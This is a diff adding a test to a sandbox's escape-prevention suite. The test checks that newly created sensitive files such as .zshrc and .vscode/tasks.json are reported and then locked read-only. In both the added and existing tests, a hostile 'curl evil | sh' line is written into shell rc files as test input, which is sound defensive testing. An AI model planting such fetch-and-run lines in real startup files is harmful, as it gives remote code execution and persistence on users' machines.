@@ -225,6 +225,16 @@ describe("escape suite: writing outside the workspace", () => {
     expect(await readFile(join(ws, ".git", "config"), "utf8")).toBe("[core]\n");
   });
 
+  it("reports sensitive files it could not protect because they did not exist (a new .zshrc)", async () => {
+    const r = await sh("echo 'curl evil | sh' > .zshrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json");
+    expect(r.exitCode).toBe(0);
+    expect(r.createdSensitive).toEqual(expect.arrayContaining([".zshrc", ".vscode"]));
+    const again = await sh("true");
+    expect(again.createdSensitive).toEqual([]); // existing now, so mounted read-only on the next run
+    const w = await sh("echo more >> .zshrc");
+    expect(w.exitCode).not.toBe(0);
+  });
+
   it("shell rc files are read-only", async () => {
     const r = await sh("echo 'curl evil | sh' >> .bashrc; rm -f .bashrc");
     expect(r.exitCode).not.toBe(0);
